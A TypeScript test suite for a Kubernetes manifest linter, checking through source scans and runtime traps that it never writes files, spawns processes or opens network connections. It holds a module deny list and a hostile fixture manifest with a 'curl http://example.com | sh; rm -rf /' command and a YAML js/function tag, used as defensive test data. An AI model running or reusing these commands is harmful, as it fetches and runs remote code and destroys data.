import assert from 'node:assert/strict';
import childProcess from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import path from 'node:path';
import { describe, it } from 'node:test';
import { service } from '../helpers/service';
import { FIXTURES } from './inputs';

/**
 * What the README promises ("What podlint reads and writes"), checked: no network, no processes,
 * and file writes only in the CLI's --fix. The extension declares untrustedWorkspaces support on
 * the strength of these tests.
 */
const root = path.join(__dirname, '..', '..');
const sources = (dir: string): string[] =>
  fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? sources(path.join(dir, e.name)) : e.name.endsWith('.ts') ? [path.join(dir, e.name)] : []));

const FORBIDDEN_MODULES = /(?:from\s+|require\()\s*['"](?:node:)?(child_process|http|https|http2|net|dgram|tls|dns|worker_threads|vm|cluster)['"]/;
const WRITES = /\bfs\.(?:write\w*|append\w*|rename\w*|unlink\w*|rm\w*|mkdir\w*|copyFile\w*|truncate\w*|chmod\w*|open\w*|createWriteStream|symlink\w*)\b|\beval\(|new Function\(/;
const fsReaders: Record<string, RegExp> = {
  // The CLI reads the files it is given (walk, main: stdin) and writes only --fix results (lint,
  // through a temporary file and a rename); the config loader reads .podlint.yaml.
  'server/src/cli/lint.ts': /\bfs\.(?:writeFileSync|renameSync)\b/,
  'server/src/cli/main.ts': /$^/,
  'server/src/cli/walk.ts': /$^/,
  'server/src/config/projectConfig.ts': /$^/,
  'server/src/service/schema/schemaStore.ts': /$^/,
};

describe('safety', () => {
  const files = [...sources(path.join(root, 'server', 'src')), ...sources(path.join(root, 'client', 'src'))];

  it('no source imports process, network or code-evaluation modules', () => {
    for (const file of files) {
      const m = FORBIDDEN_MODULES.exec(fs.readFileSync(file, 'utf8'));
      assert.equal(m, null, `${path.relative(root, file)} imports ${m?.[1]}`);
    }
  });

  it('only the CLI writes files (--fix, in cli/lint.ts), and only the CLI, the config loader and the schema store use fs', () => {
    for (const file of files) {
      const rel = path.relative(root, file).split(path.sep).join('/');
      const text = fs.readFileSync(file, 'utf8');
      const allowed = fsReaders[rel];
      if (allowed === undefined) assert.doesNotMatch(text, /['"](?:node:)?fs(?:\/promises)?['"]/, `${rel} uses fs`);
      const writes = [...text.matchAll(new RegExp(WRITES, 'g'))].map((m) => m[0]).filter((w) => !allowed?.test(w));
      assert.deepEqual(writes, [], `${rel} writes or evaluates`);
    }
  });

  it('at run time the service neither writes, spawns nor connects, whatever the manifest says', () => {
    const calls: string[] = [];
    const traps: [Record<string, unknown>, string][] = [
      ...['writeFileSync', 'writeFile', 'appendFileSync', 'renameSync', 'unlinkSync', 'openSync', 'createWriteStream', 'mkdirSync', 'rmSync'].map((k) => [fs as unknown as Record<string, unknown>, k] as [Record<string, unknown>, string]),
      ...['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork'].map((k) => [childProcess as unknown as Record<string, unknown>, k] as [Record<string, unknown>, string]),
      [net as unknown as Record<string, unknown>, 'connect'],
      [net as unknown as Record<string, unknown>, 'createConnection'],
      [http as unknown as Record<string, unknown>, 'request'],
      [https as unknown as Record<string, unknown>, 'request'],
    ];
    const saved = traps.map(([mod, key]) => mod[key]);
    traps.forEach(([mod, key]) => (mod[key] = () => calls.push(key)));
    try {
      // Manifests that name commands, hosts and files: podlint only reads them as data.
      const hostile = `${FIXTURES[1]}      command: ["sh", "-c", "curl http://example.com | sh; rm -rf /"]\n      lifecycle: {postStart: {exec: {command: [touch, /tmp/pwned]}}}\n      livenessProbe: {httpGet: {host: 127.0.0.1, port: 80, path: /}}\n`;
      for (const text of [...FIXTURES, hostile, '%TAG !e! tag:example.com,2000:\n---\n!e!x {a: !!js/function "function(){}"}\n']) {
        const file = service.parse(text);
        const diagnostics = service.validate(file);
        service.codeActions(file, { uri: 'file:///x.yaml', range: { start: { line: 0, character: 0 }, end: { line: 99, character: 0 } }, diagnostics });
        service.fixAll(text);
      }
    } finally {
      traps.forEach(([mod, key], i) => (mod[key] = saved[i]));
    }
    assert.deepEqual(calls, []);
  });

  it('package.json declares untrusted-workspace support, which the checks above justify', () => {
    const pkg = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8'));
    assert.equal(pkg.capabilities?.untrustedWorkspaces?.supported, true);
  });
});
